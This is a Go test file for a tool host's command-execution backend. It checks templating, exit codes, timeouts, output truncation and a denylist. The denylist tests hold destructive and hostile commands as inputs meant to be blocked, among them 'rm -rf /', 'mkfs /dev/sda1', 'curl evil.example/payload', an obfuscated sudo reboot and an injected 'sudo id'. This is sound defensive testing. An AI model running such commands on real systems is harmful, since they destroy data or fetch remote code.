package executor

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/dohr-michael/toolhost/internal/config"
	"github.com/dohr-michael/toolhost/internal/registry"
)

func newTestCommandBackend() *commandBackend {
	return newCommandBackend(config.ExecutorConfig{
		DefaultTimeout:  config.Duration(5 * time.Second),
		MaxOutputKB:     64,
		DangerousDenied: []string{"curl evil.example"},
	})
}

func cmdDef(command string) *registry.ToolDefinition {
	return &registry.ToolDefinition{
		ID: "cmd_test",
		Execution: registry.Execution{
			Type:    registry.ExecCommand,
			Command: &registry.CommandExecution{Command: command},
		},
	}
}

func TestCommandBackendRuns(t *testing.T) {
	b := newTestCommandBackend()

	out, err := b.Execute(context.Background(), cmdDef("echo {{word}}"), map[string]any{"word": "hello"})
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	result, ok := out.(CommandOutput)
	if !ok {
		t.Fatalf("unexpected output type %T", out)
	}
	if strings.TrimSpace(result.Stdout) != "hello" {
		t.Errorf("unexpected stdout %q", result.Stdout)
	}
	if result.ExitCode != 0 {
		t.Errorf("expected exit 0, got %d", result.ExitCode)
	}
}

func TestCommandBackendExitCodeIsData(t *testing.T) {
	b := newTestCommandBackend()

	out, err := b.Execute(context.Background(), cmdDef("exit 3"), nil)
	if err != nil {
		t.Fatalf("non-zero exit should not be an error: %v", err)
	}
	if out.(CommandOutput).ExitCode != 3 {
		t.Errorf("expected exit 3, got %d", out.(CommandOutput).ExitCode)
	}
}

func TestCommandBackendDenylist(t *testing.T) {
	b := newTestCommandBackend()

	blocked := []string{
		"rm -rf /",
		"sudo apt install x",
		"mkfs /dev/sda1",
		"echo hi && 'su'do reboot",
		"curl evil.example/payload",
		"shutdown -h now",
	}
	for _, cmd := range blocked {
		_, err := b.Execute(context.Background(), cmdDef(cmd), nil)
		if err == nil {
			t.Errorf("command %q should be blocked", cmd)
			continue
		}
		if coded := registry.AsError(err); coded.Code != registry.CodePermissionDenied {
			t.Errorf("command %q: expected PERMISSION_DENIED, got %s", cmd, coded.Code)
		}
	}
}

func TestCommandBackendAllowsSafeCommands(t *testing.T) {
	b := newTestCommandBackend()

	for _, cmd := range []string{"ls -la", "echo summary", "grep -r pattern ."} {
		if reason := b.scanDenied(cmd); reason != "" {
			t.Errorf("command %q wrongly blocked: %s", cmd, reason)
		}
	}
}

func TestCommandBackendSubstitutionBlockedAfterExpansion(t *testing.T) {
	b := newTestCommandBackend()

	// The dangerous part arrives through a parameter, not the template.
	_, err := b.Execute(context.Background(), cmdDef("{{command}}"), map[string]any{"command": "sudo id"})
	if err == nil {
		t.Fatal("expected injected sudo to be blocked")
	}
}

func TestCommandBackendTimeout(t *testing.T) {
	b := newCommandBackend(config.ExecutorConfig{DefaultTimeout: config.Duration(5 * time.Second)})

	def := cmdDef("sleep 2")
	def.Execution.Command.TimeoutMS = 100

	_, err := b.Execute(context.Background(), def, nil)
	if err == nil {
		t.Fatal("expected timeout error")
	}
	if !strings.Contains(err.Error(), "timed out") {
		t.Errorf("unexpected error: %v", err)
	}
}

func TestCommandBackendTruncates(t *testing.T) {
	b := newCommandBackend(config.ExecutorConfig{
		DefaultTimeout: config.Duration(5 * time.Second),
		MaxOutputKB:    1,
	})

	out, err := b.Execute(context.Background(), cmdDef("head -c 4096 /dev/zero | tr '\\0' 'x'"), nil)
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	result := out.(CommandOutput)
	if len(result.Stdout) != 1024 {
		t.Errorf("expected 1024 bytes, got %d", len(result.Stdout))
	}
	if !result.Truncated {
		t.Error("expected truncated flag")
	}
}
